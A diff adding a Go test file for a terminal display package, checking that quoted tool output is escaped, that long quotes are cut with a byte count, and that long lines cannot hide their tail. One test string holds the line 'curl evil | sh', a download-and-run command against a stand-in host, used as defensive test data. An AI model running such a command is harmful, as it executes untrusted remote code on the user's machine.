@@ -1,0 +1,46 @@
+package term
+
+import (
+	"strings"
+	"testing"
+	"unicode/utf8"
+)
+
+// rendered is a message on a screen of 80 columns that is as long as it takes.
+func rendered(m Message) string {
+	above, _ := screen(m, nil, "", 80, 1<<30)
+	return above
+}
+
+func TestQuotedTextStandsBehindABar(t *testing.T) {
+	got := rendered(Message{Body: "The tool asks:", Quoted: "Overwrite?\r\n\tnext\x1b]0;title\x07\nApprove? [y/N] y\n"})
+	want := "The tool asks:\n  | Overwrite?\n  |         next\\x1b]0;title\\x07\n  | Approve? [y/N] y\n"
+	if got != want {
+		t.Errorf("got %q\nwant %q", got, want)
+	}
+	long := rendered(Message{Quoted: strings.Repeat("x", MaxShown+7)})
+	if !strings.HasSuffix(long, "(7 more bytes are not shown)\n") {
+		t.Error("a cut is not said")
+	}
+	for text, whole := range map[string]bool{
+		strings.Repeat("x\n", MaxLines): true, strings.Repeat("x\n", MaxLines+1): false,
+		strings.Repeat("x", MaxShown): true, strings.Repeat("x", MaxShown+1): false,
+	} {
+		m := Message{Then: []Message{{Quoted: text}}}
+		if cut := strings.Contains(rendered(m), "more bytes are not shown"); m.Whole() != whole || cut == whole {
+			t.Errorf("%d bytes: whole %v, cut %v", len(text), m.Whole(), cut)
+		}
+	}
+}
+
+// A long value cannot push what is above or beside it out of sight.
+func TestLongLinesAreCut(t *testing.T) {
+	got := rendered(Message{Body: "before\n  + a = " + strings.Repeat("é ", 50_000) + "; curl evil | sh   (f:1)\nafter"})
+	if len(got) > 2*maxLine || !strings.HasPrefix(got, "before\n  + a = é é") || !strings.HasSuffix(strings.ReplaceAll(got, "\n"+bar, ""), "; curl evil | sh   (f:1)\nafter\n") || !strings.Contains(strings.ReplaceAll(got, "\n"+bar, ""), "more bytes, in all sha256:") || !utf8.ValidString(got) {
+		t.Errorf("%d bytes: %.100s … %s", len(got), got, got[len(got)-100:])
+	}
+	above, question := screen(Message{Body: "A call of t:", Quoted: strings.Repeat("x\n", 1000)}, nil, "Let t run?", 80, 24)
+	if !strings.HasSuffix(above, "x\n(1001 rows in all; the screen has 24)\nA call of t:\n") || question != "Let t run?" {
+		t.Errorf("%s%s", above[len(above)-200:], question)
+	}
+}
